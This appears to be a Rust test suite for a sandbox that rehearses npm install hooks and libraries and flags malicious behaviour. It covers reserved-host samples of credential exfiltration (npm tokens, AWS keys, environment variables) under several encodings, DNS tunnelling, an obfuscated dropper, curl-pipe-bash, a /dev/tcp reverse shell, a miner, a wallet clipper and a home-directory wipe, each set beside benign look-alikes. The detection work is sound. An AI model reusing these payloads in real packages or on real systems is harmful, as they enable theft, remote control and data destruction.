//! Inert samples of known shapes, each with what its rehearsal must prove, and the honest look-alikes beside them.
//! Hosts are reserved ones; nothing here could do anything, on the stage or off it.

mod common;

use cleanbill_rehearsal::{Action, Disguise, FactKind, Persona};
use common::{all, fact, hook, library, linux, package, printed, proven};

#[test]
fn a_postinstall_that_only_prints_is_clean() {
    let (traces, facts) = all(&hook("console.log('thank you for installing', process.version)"));
    assert!(facts.is_empty(), "{facts:#?}");
    assert!(traces[0].silent);
    assert!(printed(&traces[0]).contains("thank you"));
}

#[test]
fn the_environment_sent_by_https_is_a_proven_theft() {
    let (_, facts) = all(&hook(
        "const https = require('https');\n\
         const data = JSON.stringify({ env: process.env });\n\
         const req = https.request({ hostname: 'collect.example', path: '/in', method: 'POST' });\n\
         req.write(data);\nreq.end();",
    ));
    let theft = fact(&facts, "FLO-01");
    assert_eq!(theft.kind, FactKind::Proven);
    assert_eq!(theft.host.as_deref(), Some("collect.example"));
    assert!(theft.at_install);
    let last = theft.steps.last().unwrap();
    assert_eq!((last.file.as_deref(), last.line), (Some("setup.js"), Some(5)));
    assert!(
        theft
            .steps
            .iter()
            .any(|step| step.decoded.contains("whole environment"))
    );
}

#[test]
fn disguises_do_not_hide_a_token() {
    let send = |expression: &str| {
        format!(
            "const fs = require('fs'), os = require('os'), path = require('path'), zlib = require('zlib'), crypto = require('crypto');\n\
             const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\n\
             fetch('https://collect.example/', {{ method: 'POST', body: {expression} }});"
        )
    };
    for (expression, disguise) in [
        ("Buffer.from(rc).toString('base64')", Disguise::Base64),
        ("Buffer.from(rc).toString('hex')", Disguise::Hex),
        ("zlib.gzipSync(rc)", Disguise::Compressed),
        ("rc.split('').reverse().join('')", Disguise::Reversed),
        ("Buffer.from(rc).map((byte) => byte ^ 0x37)", Disguise::Xor),
        (
            "(() => { const c = crypto.createCipheriv('aes-256-cbc', Buffer.alloc(32, 1), Buffer.alloc(16, 2)); return Buffer.concat([c.update(rc), c.final()]).toString('base64'); })()",
            Disguise::Encrypted,
        ),
    ] {
        let (traces, facts) = all(&hook(&send(expression)));
        assert!(
            proven(&facts).contains(&"FLO-01"),
            "{expression}: {facts:#?} {:#?}",
            traces[0].events
        );
        let canary = fact(&facts, "FLO-01").canaries[0].clone();
        assert_eq!(canary.name, "npm token");
        assert!(canary.disguises.contains(&disguise), "{expression}: {canary:?}");
    }
}

#[test]
fn a_key_carried_out_in_dns_labels_is_seen() {
    let (_, facts) = all(&hook(
        "const dns = require('dns'), fs = require('fs'), os = require('os');\n\
         const key = fs.readFileSync(os.homedir() + '/.aws/credentials').toString('hex');\n\
         key.match(/.{1,40}/g).forEach((part, at) => dns.resolve4(at + '.' + part + '.t.collect.example', () => {}));",
    ));
    let tunnel = fact(&facts, "FLO-16");
    assert_eq!(tunnel.host.as_deref(), Some("collect.example"));
    assert!(
        tunnel
            .canaries
            .iter()
            .any(|canary| canary.disguises.contains(&Disguise::Split)),
        "{tunnel:#?}"
    );
}

#[test]
fn an_obfuscated_dropper_tells_its_whole_story() {
    // The shape of a string array with a rotation and a decoder, then download, write, detached start, self-removal.
    let source = r#"
const _0x = ['ZXhhbXBsZQ==','L3VwZGF0ZS80OTg5','aHR0cHM6Ly9zdGFnZS4=','dW5saW5rU3luYw==','bm9kZQ==','Y2hpbGRfcHJvY2Vzcw=='];
(function (a, n) { while (--n) a.push(a.shift()); })(_0x, 4);
const _ = (i) => Buffer.from(_0x[i], 'base64').toString();
process.env['NODE_TLS_REJECT_UNAUTHORIZED'] = '0';
(async () => {
  const fs = require('fs'), os = require('os'), path = require('path');
  const response = await fetch(_(5) + _(3) + _(4));
  const target = path.join(os.tmpdir(), require('crypto').randomBytes(12).toString('hex') + '.js');
  fs.writeFileSync(target, await response.text());
  const child = require(_(2)).spawn(_(1), [target, '203.0.113.9:443'], { detached: true, stdio: 'ignore', windowsHide: true });
  child.unref();
  fs[_(0)](__filename);
})();
"#;
    let (traces, facts) = all(&hook(source));
    let chains = proven(&facts);
    for chain in ["FLO-06", "ANT-03"] {
        assert!(
            chains.contains(&chain),
            "{chain}: {facts:#?}\n{:#?}",
            traces[0].events
        );
    }
    // A program that is written and started is told as one, and not as code besides.
    assert!(!chains.contains(&"FLO-03"), "{chains:?}");
    assert_eq!(fact(&facts, "FLO-06").host.as_deref(), Some("stage.example"));
    assert!(traces[0].events.iter().any(|event| matches!(
        &event.action,
        Action::Spawned { options, .. } if options.contains(&"detached".to_owned()) && options.contains(&"stdio ignore".to_owned())
    )));
    assert!(traces[0].events.iter().any(
        |event| matches!(&event.action, Action::EnvSet { name, .. } if name == "NODE_TLS_REJECT_UNAUTHORIZED")
    ));
}

#[test]
fn a_download_handed_to_eval_is_proven_however_it_is_decoded() {
    for decode in [
        "eval(body)",
        "new Function('require', body)(require)",
        "eval(Buffer.from(body, 'base64').toString())",
        "require('vm').runInThisContext(body)",
        "(0, eval)(JSON.parse(body).cookie)",
        "module._compile(body, 'x.js')",
        "require('child_process').execSync('node', { input: body })",
    ] {
        let source = format!(
            "require('https').get('https://paste.example/raw/1', (res) => {{\n\
             let body = ''; res.on('data', (part) => body += part); res.on('end', () => {{ {decode} }}); }});"
        );
        let (traces, facts) = all(&hook(&source));
        let run = facts.iter().find(|fact| fact.chain == "FLO-03");
        assert!(
            run.is_some_and(|run| run.host.as_deref() == Some("paste.example")),
            "{decode}: {facts:#?} {:#?}",
            traces[0].events
        );
    }
}

#[test]
fn a_layer_of_aes_is_opened_and_what_it_does_is_seen() {
    // The layer was made with the key and vector beside it; it posts the project's `.env`.
    let source = "const crypto = require('crypto');\n\
        const seal = (text) => { const c = crypto.createCipheriv('aes-128-cbc', Buffer.alloc(16, 3), Buffer.alloc(16, 4)); return c.update(text, 'utf8', 'hex') + c.final('hex'); };\n\
        const layer = seal(\"const fs=require('fs');fetch('https://collect.example/',{method:'POST',body:fs.readFileSync('../../.env','utf8')})\");\n\
        const open = crypto.createDecipheriv('aes-128-cbc', Buffer.alloc(16, 3), Buffer.alloc(16, 4));\n\
        eval(open.update(layer, 'hex', 'utf8') + open.final('utf8'));";
    let (_, facts) = all(&hook(source));
    let theft = fact(&facts, "FLO-01");
    assert_eq!(theft.canaries[0].name, "project secret");
    assert_eq!(theft.steps.last().unwrap().file.as_deref(), Some("setup.js"));
}

#[test]
fn a_gate_on_ci_is_noted_and_the_runner_tried() {
    let (traces, facts) = all(&hook(
        "if (!process.env.CI) process.exit(0);\n\
         fetch('https://collect.example/?t=' + process.env.GITHUB_TOKEN);",
    ));
    assert!(traces[0].gates.contains(&"env CI".to_owned()));
    assert!(
        traces[0]
            .events
            .iter()
            .any(|event| matches!(event.action, Action::Exited { code: 0 }))
    );
    assert_eq!(fact(&facts, "FLO-01").personas, [Persona::LinuxCi]);
}

#[test]
fn a_wait_of_ten_minutes_costs_nothing() {
    let (traces, facts) = all(&hook(
        "setTimeout(() => fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(process.env) }), 600000);",
    ));
    assert!(fact(&facts, "FLO-01").at_install);
    assert!(traces[0].events.iter().any(|event| event.virtual_ms >= 600_000));
}

#[test]
fn a_locale_gate_wakes_on_that_locale() {
    let (_, facts) = all(&library(
        "if (Intl.DateTimeFormat().resolvedOptions().locale === 'ru-RU') require('fs').rmSync(require('os').homedir(), { recursive: true, force: true });",
    ));
    assert_eq!(fact(&facts, "FLO-12").personas, [Persona::RussianLocale]);
}

#[test]
fn a_wallet_clipper_shows_itself_on_the_page() {
    let (_, facts) = all(&library(
        "if (typeof window !== 'undefined' && window.ethereum) {\n\
           const old = window.ethereum.request;\n\
           window.ethereum.request = async (call) => { if (call.method === 'eth_sendTransaction') call.params[0].to = '0x1111111111111111111111111111111111111111'; return old(call); };\n\
         }",
    ));
    assert_eq!(fact(&facts, "FLO-11").personas, [Persona::Browser]);
}

#[test]
fn a_library_that_sends_the_key_it_is_given_is_woken() {
    let (_, facts) = all(&library(
        "exports.fromPrivateKey = function (privateKey) { require('https').get('https://collect.example/k/' + privateKey); return {}; };",
    ));
    assert_eq!(fact(&facts, "FLO-01").canaries[0].name, "wallet keystore");
}

#[test]
fn a_client_that_sends_what_it_is_given_where_it_is_told_is_no_thief() {
    let (traces, facts) = all(&library(
        "exports.post = (url, password) => fetch(url, { method: 'POST', body: JSON.stringify({ password }) });",
    ));
    assert!(
        traces[0]
            .events
            .iter()
            .any(|event| matches!(event.action, Action::Request { .. }))
    );
    assert!(proven(&facts).is_empty(), "{facts:#?}");
}

#[test]
fn shell_scripts_are_followed() {
    let input = package(
        r#"{"name":"sample","scripts":{"preinstall":"npm run prep && echo done","prep":"curl -s https://stage.example/i.sh | bash"}}"#,
        &[],
    );
    let (_, facts) = all(&input);
    assert_eq!(fact(&facts, "FLO-03").host.as_deref(), Some("stage.example"));
    let theft = package(
        r#"{"name":"sample","scripts":{"postinstall":"sh -c 'curl -X POST -d @$HOME/.npmrc https://collect.example/in'"}}"#,
        &[],
    );
    assert_eq!(fact(&all(&theft).1, "FLO-01").canaries[0].name, "npm token");
}

#[test]
fn persistence_and_other_tools_settings_are_told() {
    let (_, facts) = all(&hook(
        "const fs = require('fs'), os = require('os'), cp = require('child_process');\n\
         fs.mkdirSync(os.homedir() + '/.config/systemd/user', { recursive: true });\n\
         fs.writeFileSync(os.homedir() + '/.config/systemd/user/n.service', '[Service]');\n\
         cp.execSync('systemctl --user enable n');\n\
         fs.writeFileSync(os.homedir() + '/.claude/settings.json', '{\"hooks\":{}}');\n\
         cp.execSync('npm install other-package --no-save');",
    ));
    let chains = proven(&facts);
    for chain in ["PER-01", "AIX-02", "FLO-17"] {
        assert!(chains.contains(&chain), "{chain}: {facts:#?}");
    }
}

#[test]
fn a_native_installer_is_noted_and_no_theft() {
    let (_, facts) = all(&package(
        r#"{"name":"sample","version":"1.0.0","scripts":{"install":"node install.js"}}"#,
        &[(
            "install.js",
            "const https = require('https'), fs = require('fs'), path = require('path'), os = require('os');\n\
             const name = `tool-${os.platform()}-${os.arch()}.node`;\n\
             https.get(`https://forge.example/releases/v1.0.0/${name}`, (res) => {\n\
               res.pipe(fs.createWriteStream(path.join(__dirname, 'build', name)));\n\
             });",
        )],
    ));
    assert_eq!(facts.len(), 1, "{facts:#?}");
    assert_eq!(
        (facts[0].chain.as_str(), facts[0].kind),
        ("download-stored", FactKind::Noted)
    );
}

#[test]
fn telemetry_without_secrets_is_no_theft() {
    let (traces, facts) = all(&hook(
        "const os = require('os');\n\
         fetch('https://telemetry.example/v1', { method: 'POST', body: JSON.stringify({ v: process.version, platform: os.platform(), arch: process.arch }) });",
    ));
    assert!(
        traces[0]
            .events
            .iter()
            .any(|event| matches!(event.action, Action::Request { .. }))
    );
    assert!(proven(&facts).is_empty(), "{facts:#?}");
}

#[test]
fn a_beacon_of_identity_at_install_is_named() {
    let (_, facts) = all(&hook(
        "const os = require('os');\nrequire('http').get('http://beacon.example/?h=' + os.hostname() + '&u=' + os.userInfo().username);",
    ));
    assert_eq!(proven(&facts), ["FLO-02"]);
}

#[test]
fn indirect_ways_to_modules_lead_to_the_same_stage() {
    for way in [
        "module.constructor._load('child_process')",
        "process.mainModule.require('child_process')",
        "require('module').createRequire(__filename)('child_process')",
        "process.getBuiltinModule('child_process')",
        "global['proc' + 'ess'].mainModule['req' + 'uire']('child_' + 'process')",
        "(() => {}).constructor('return process')().mainModule.require('child_process')",
    ] {
        let trace = linux(&hook(&format!("({way}).exec('nslookup mark.example')")));
        assert!(
            trace.events.iter().any(
                |event| matches!(&event.action, Action::DnsQuery { name, .. } if name == "mark.example")
            ),
            "{way}: {:#?}",
            trace.events
        );
    }
}

#[test]
fn modules_of_both_kinds_load_each_other() {
    let trace = linux(&package(
        r#"{"name":"sample","type":"module","exports":"./index.js"}"#,
        &[
            (
                "index.js",
                "import { value, bump } from './lib.js'; import cjs, { named } from './old.cjs';\nimport * as fs from 'node:fs';\nbump(); const more = await import('./late.mjs');\nconsole.log(value, cjs.named, named, typeof fs.readFileSync, more.default, import.meta.url);",
            ),
            (
                "lib.js",
                "export let value = 1; export function bump() { value++; }",
            ),
            ("old.cjs", "exports.named = 'n';"),
            ("late.mjs", "export default 'late'"),
        ],
    ));
    assert!(
        printed(&trace).contains("2 n n function late file://"),
        "{}",
        printed(&trace)
    );
}

#[test]
fn two_rehearsals_tell_the_same_story() {
    let input =
        hook("console.log(require('crypto').randomBytes(8).toString('hex'), Date.now(), Math.random() < 2)");
    assert_eq!(linux(&input), linux(&input));
}

#[test]
fn further_disguises_and_layers_of_them_are_taken_off() {
    let send = |expression: &str| {
        format!(
            "const fs = require('fs'), os = require('os'), zlib = require('zlib');\n\
             const rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n\
             const b64 = (data) => Buffer.from(data).toString('base64');\n\
             {expression}"
        )
    };
    let post = |body: &str| {
        send(&format!(
            "fetch('https://collect.example/', {{ method: 'POST', body: {body} }});"
        ))
    };
    for (source, disguise) in [
        (
            send("fetch('https://collect.example/?q=' + encodeURIComponent(rc));"),
            Disguise::Plain,
        ),
        (
            post("Array.from(Buffer.from(rc), (byte) => '%' + byte.toString(16).padStart(2, '0')).join('')"),
            Disguise::Url,
        ),
        (post("b64(b64(rc))"), Disguise::Base64),
        (post("b64(zlib.deflateSync(rc))"), Disguise::Compressed),
        (post("b64(rc.split('').reverse().join(''))"), Disguise::Reversed),
        (
            post(
                "Buffer.from(Buffer.from(rc).map((byte, at) => byte ^ 'key7'.charCodeAt(at % 4))).toString('base64')",
            ),
            Disguise::Xor,
        ),
        (
            send(
                "for (let at = 0; at < rc.length; at += 24) fetch('https://collect.example/' + at, { method: 'POST', body: rc.slice(at, at + 24) });",
            ),
            Disguise::Split,
        ),
        (
            send(
                "rc.match(/[^]{1,20}/g).forEach((part) => fetch('https://collect.example/', { method: 'POST', body: Buffer.from(part).toString('hex') }));",
            ),
            Disguise::Split,
        ),
    ] {
        let (traces, facts) = all(&hook(&source));
        assert!(
            proven(&facts).contains(&"FLO-01"),
            "{source}: {facts:#?} {:#?}",
            traces[0].events
        );
        let theft = fact(&facts, "FLO-01");
        assert!(
            theft.canaries.iter().any(|canary| canary.name == "npm token"
                && (canary.disguises.contains(&disguise) || disguise == Disguise::Plain)),
            "{source}: {:?}",
            theft.canaries
        );
    }
}

#[test]
fn a_shell_wired_to_a_socket_is_named_so() {
    let node = "const net = require('net'), cp = require('child_process');\n\
         const sh = cp.spawn('/bin/sh', []);\n\
         const socket = new net.Socket();\n\
         socket.connect(4444, '192.0.2.66', () => { socket.pipe(sh.stdin); sh.stdout.pipe(socket); sh.stderr.pipe(socket); });";
    let (traces, facts) = all(&hook(node));
    assert!(
        proven(&facts).contains(&"FLO-07"),
        "{facts:#?} {:#?}",
        traces[0].events
    );
    assert_eq!(fact(&facts, "FLO-07").host.as_deref(), Some("192.0.2.66"));
    let (traces, facts) = all(&hook(
        "require('child_process').exec(\"bash -c 'bash -i >& /dev/tcp/192.0.2.66/4444 0>&1'\")",
    ));
    assert!(
        proven(&facts).contains(&"FLO-07"),
        "{facts:#?} {:#?}",
        traces[0].events
    );
}

#[test]
fn tasks_fetched_again_and_again_are_told_apart_from_one_download() {
    let (traces, facts) = all(&hook(
        "setInterval(async () => {\n\
           const answer = await fetch('https://tasks.example/next');\n\
           require('child_process').exec((await answer.text()).trim());\n\
         }, 5000);",
    ));
    assert!(
        proven(&facts).contains(&"FLO-15"),
        "{facts:#?} {:#?}",
        traces[0].events
    );
    let (_, facts) = all(&hook(
        "fetch('https://files.example/setup.sh').then((answer) => answer.text()).then((text) => require('child_process').exec(text));",
    ));
    assert!(!proven(&facts).contains(&"FLO-15"), "{facts:#?}");
    assert!(proven(&facts).contains(&"FLO-03"), "{facts:#?}");
}

#[test]
fn a_miner_shows_itself_by_its_pool() {
    let (traces, facts) = all(&hook(
        "const cp = require('child_process');\n\
         cp.spawn('/tmp/.cache/kworker', ['-o', 'stratum+tcp://pool.example:3333', '--donate-level', '1'], { detached: true, stdio: 'ignore' }).unref();",
    ));
    assert_eq!(
        fact(&facts, "FLO-13").host.as_deref(),
        Some("pool.example"),
        "{:#?}",
        traces[0].events
    );
}

#[test]
fn one_further_machine_is_tried_where_only_one_is_asked_about() {
    let machines = |source: &str| -> Vec<&'static str> {
        let (traces, _) = all(&hook(source));
        traces.iter().map(|trace| trace.persona.as_str()).collect()
    };
    assert_eq!(
        machines("if (process.platform === 'linux') return;"),
        ["linux-developer", "windows-developer"]
    );
    assert_eq!(
        machines("if (process.platform === 'darwin') console.log('mac');"),
        ["linux-developer", "mac-developer"]
    );
    assert_eq!(machines("console.log('hello');"), ["linux-developer"]);
    assert_eq!(
        machines("if (process.platform === 'win32') {} fetch('https://files.example/');"),
        ["linux-developer"]
    );
}

#[test]
fn wrappers_of_streams_and_of_the_console_load() {
    let trace = linux(&library(
        "const fs = require('fs');\n\
         for (const name of ['ReadStream', 'WriteStream']) { const made = Object.create(fs[name].prototype); if (typeof made.pipe !== 'function') throw name; }\n\
         require('node:console').log('wrapped', typeof process.umask(), process.hrtime().length);",
    ));
    assert!(
        printed(&trace).contains("wrapped number 2"),
        "{}",
        printed(&trace)
    );
}
